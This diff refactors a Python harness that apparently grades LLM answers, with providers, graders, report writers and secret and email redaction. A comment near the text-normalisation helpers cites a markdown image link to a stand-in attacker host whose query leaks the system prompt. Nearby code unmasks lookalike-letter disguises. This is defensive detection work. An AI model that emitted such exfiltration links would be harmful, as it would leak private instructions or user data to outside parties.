@@ -63,6 +63,7 @@ import decimal
 import errno
 import functools
 import hashlib
+import itertools
 import json
 import math
 import os
@@ -83,19 +84,16 @@ __all__ = [
     "MODELS", "CASES", "INSTRUCTIONS", "TOOL", "FORMAT", "RFC_SOURCES",
     # URL rules and checks (A3-A5, B2)
     "rfc_document", "approved_source", "document_id", "CHECKS", "BEHAVIORS", "check", "grade",
-    "grading", "compile_case", "reported_cost", "similarity",
-    "register_check", "register_case_key", "CHECK_TABLE", "CHECK_KEYS", "Fail", "text_form",
-    "reason_table", "Trace", "user_turns", "turn_parts", "turn_case", "turn_rule", "rule_turn",
-    "validate_history",
+    "grading", "compile_case", "reported_cost", "similarity", "register_check", "register_case_key",
+    "CHECK_TABLE", "CHECK_KEYS", "Fail", "text_form", "reason_table", "Trace", "user_turns",
+    "turn_parts", "turn_case", "turn_rule", "rule_turn", "validate_history",
     # suites (B1)
     "SuiteError", "load_suite", "validate_suite", "instructions_sha256",
     # providers and one request (A6, B3, B4)
     "Perplexity", "PROVIDERS", "Provider", "register_provider", "DEFAULT_PROVIDER",
-    "record_provider",
-    "PerplexityProvider", "HTTPProvider", "OpenAIProvider", "AnthropicProvider", "EchoProvider",
-    "ReplayProvider",
-    "run_one", "run_row", "run_row_steps", "send_request", "send_request_steps", "drive_steps",
-    "transient", "retry_after", "redactor",
+    "record_provider", "PerplexityProvider", "HTTPProvider", "OpenAIProvider", "AnthropicProvider",
+    "EchoProvider", "ReplayProvider", "run_one", "run_row", "run_row_steps", "send_request",
+    "send_request_steps", "drive_steps", "transient", "retry_after", "redactor",
     # record and summary (A7, A8, B4)
     "RecordError", "create_record", "replace_record", "load_record", "write_new_file", "dumps",
     "Tally", "summary", "row_key", "plan_rows", "shard_plan", "key_text", "record_problem",
@@ -105,8 +103,7 @@ __all__ = [
     "safe_text", "xml_text", "md_text", "md_table", "html_page", "html_table", "junit_xml",
     "markdown_run", "junit_run", "html_run", "tool_sequence", "trajectory",
     # run control and the command line
-    "Settings", "UsageError", "Terminated", "guard_output", "main", "cli", "program_name",
-    "RANGES",
+    "Settings", "UsageError", "Terminated", "guard_output", "main", "cli", "program_name", "RANGES",
 ]
 
 
@@ -162,16 +159,13 @@ def _open_new(path):
     return fd
 
 
-# a FIFO opens at once
-_READ_FLAGS = os.O_RDONLY | getattr(os, "O_NONBLOCK", 0) | getattr(os, "O_CLOEXEC", 0)
-
-
 def open_existing(path, folder=False):
     """A read-only descriptor of the regular file at `path` (to read or to lock; with folder,
     also a folder, to lock: a golden suite is one); OSError otherwise. A FIFO, a device
     (/dev/zero, /dev/full) or a directory is refused before a byte is read: reading one would
     block forever or never end (and fill memory)."""
-    fd = os.open(path, _READ_FLAGS)
+    # non-blocking: a FIFO opens at once
+    fd = os.open(path, os.O_RDONLY | getattr(os, "O_NONBLOCK", 0) | getattr(os, "O_CLOEXEC", 0))
     try:
         mode = os.fstat(fd).st_mode
         if not (stat.S_ISREG(mode) or (folder and stat.S_ISDIR(mode))):
@@ -244,9 +238,7 @@ def plan_rows(models, case_ids, repeats):
 def shard_plan(plan, shard):
     """The I-th of N deterministic slices of a plan (shard = (I, N)): every N-th row from the
     I-th; None is the whole plan. The one shard filter of runs and reports."""
-    if shard is None:
-        return list(plan)
-    index, total = shard
+    index, total = shard or (1, 1)
     return [key for n, key in enumerate(plan) if n % total == index - 1]
 
 
@@ -393,7 +385,6 @@ def _amount(value):
 _MAYBE_UNSAFE = re.compile(r"[^\x20-\x7e]")  # anything outside printable ASCII is looked at
 # controls, bidi and other format marks, surrogates, separators
 _UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}
-_NAMED_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
 
 
 def _visible(match):
@@ -401,9 +392,7 @@ def _visible(match):
     import unicodedata  # a built-in module, loaded the first time there is anything to look at
     if unicodedata.category(char) not in _UNSAFE_CATEGORIES:
         return char
-    code = ord(char)
-    return _NAMED_ESCAPES.get(char) or (f"\\x{code:02x}" if code <= 0xff else f"\\u{code:04x}"
-                                        if code <= 0xffff else f"\\U{code:08x}")
+    return ascii(char)[1:-1]  # as Python escapes it: \n, \x1b, \u202e, \U000e0001
 
 
 def safe_text(value, newlines=False):
@@ -421,9 +410,8 @@ class Settings:
     """Every option of one invocation, resolved once (argv, then the environment, then on
     --resume the record's header, then defaults) and never changed afterwards.
 
-    Field names are the argparse names, so code reads `settings.retries` wherever it used
-    to read `args.retries`. Adding an option is one line in FIELDS (name: default) next to
-    its parser argument; a parser option without a field fails at once (TypeError).
+    Field names are the argparse names. Adding an option is one line in FIELDS (name: default)
+    next to its parser argument; a parser option without a field fails at once (TypeError).
     """
 
     FIELDS = {
@@ -466,10 +454,8 @@ class Settings:
         """A copy with some fields changed (for tests and for resolution steps)."""
         return Settings(**{**self.as_dict(), **changes})
 
-    def __eq__(self, other):
+    def __eq__(self, other):  # and so unhashable (__hash__ is None)
         return isinstance(other, Settings) and self.as_dict() == other.as_dict()
-
-    __hash__ = None
 
     def __repr__(self):
         shown = {name: value for name, value in self.as_dict().items()
@@ -772,9 +758,7 @@ def _json_said(text):
     body = text.strip()
     if body.startswith("```") and body.endswith("```") and "\n" in body:  # ```json ... ```
         body = body[body.index("\n"):-3]
-    if body.strip()[:1] not in ("{", "[", '"'):
-        return None
-    value = _decoded(body)
+    value = _decoded(body)  # the body itself when it is no JSON text
     return None if value is body else argument_text(value)
 
 
@@ -782,14 +766,12 @@ def _json_said(text):
 # stacks); a script's own vowel signs are not among them.
 _COMBINING = re.compile("[\u0300-\u036f\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff\ufe20-\ufe2f]")
 
-
 # Cyrillic and Greek letters drawn like Latin ones ("lifetime \u0430ccess" with a Cyrillic a):
 # NFKC keeps them apart, so a disguised phrase is read with them as the Latin letters too.
 # Read in text_form() (case folded), so a capital's lower case stands for it: к, м, т, в, н.
 _LOOKALIKES = str.maketrans("аеорсухѕіјһԁԛԝӏүкмтвнɡıαοριχκνυϲϳεβζτ",
                             "aeopcyxsijhdqwlykmtbhgiaopixkvucjebzt")
 _LOOKALIKE = re.compile("[" + "".join(map(chr, _LOOKALIKES)) + "]")
-
 
 # URL encoding, as in a link or an image whose query carries what is said ("![x](https://evil
 # .example/?q=system%20prompt)", "?card=4111+1111+..."): read decoded too.
@@ -4461,10 +4443,8 @@ PII_PATTERNS = [
      r"\1\2[REDACTED:key]"),
     # the @ also as written in a link (%40), an HTML entity (&#64;) or raw JSON text (\u0040)
     (re.compile(r"[A-Za-z0-9._%+-]+(?:@|%40|&#0*64;|&#[xX]0*40;|\\u0040)[A-Za-z0-9-]+(?:"
-                r"\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}"),
-     "[REDACTED:email]"),
+                r"\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}"), "[REDACTED:email]"),
 ]
-
 
 # a shorter key ("x" for a local server) is not masked: it would rewrite unrelated text (every x
 # of the evidence); main() says so once on stderr
@@ -4496,9 +4476,8 @@ def secret_rules(secrets):
         return []
     forms = sorted({form for secret in keys for form in secret_forms(secret)},
                    key=lambda form: (-len(form), form))  # the longest form wins at a position
-    return [(re.compile("|".join(map(re.escape, forms)), re.IGNORECASE), "[REDACTED:secret]"),
-            (re.compile("|".join(map(_json_escaped_pattern, keys)), re.IGNORECASE),
-             "[REDACTED:secret]")]
+    patterns = ["|".join(map(re.escape, forms)), "|".join(map(_json_escaped_pattern, keys))]
+    return [(re.compile(pattern, re.IGNORECASE), "[REDACTED:secret]") for pattern in patterns]
 
 
 # escaped invisible characters in JSON text (\u200b): the mask reads through them like raw ones
@@ -4522,7 +4501,6 @@ def _spans_seeing_through(pattern, replacement, text):
     """(begin, end, replacement text) of each match of the pattern in the text read as if it had
     no invisible characters (zero-width spaces and other format characters), in order."""
     import bisect
-    import itertools
     runs = [(run.start(), run.group()) for run in _VISIBLE_RUN.finditer(text)]
     # where each visible run starts in the text read without them (and where that text ends)
     starts = list(itertools.accumulate((len(run) for _, run in runs), initial=0))
@@ -4555,12 +4533,11 @@ def _sub_across(pattern, replacement, parts):
     value split over an answer's text parts is masked whole (its mask where it starts, the rest
     gone from the later parts). Matches inside one part are left to the part's own masking."""
     import bisect
-    import itertools
     text, bounds = "".join(parts), list(itertools.accumulate(map(len, parts)))
     spans = [span for span in _spans_seeing_through(pattern, replacement, text)
              if bisect.bisect_right(bounds, span[0]) != bisect.bisect_left(bounds, span[1])]
-    out, index, start = [], 0, 0
-    for end in bounds:
+    out, index = [], 0
+    for start, end in zip([0, *bounds], bounds):
         pieces, at = [], start
         while index < len(spans) and spans[index][0] < end:
             begin, stop, said = spans[index]
@@ -4571,7 +4548,6 @@ def _sub_across(pattern, replacement, parts):
                 break  # the match goes on into the next part
             index += 1
         out.append("".join(pieces) + text[at:end])
-        start = end
     return out
 
 
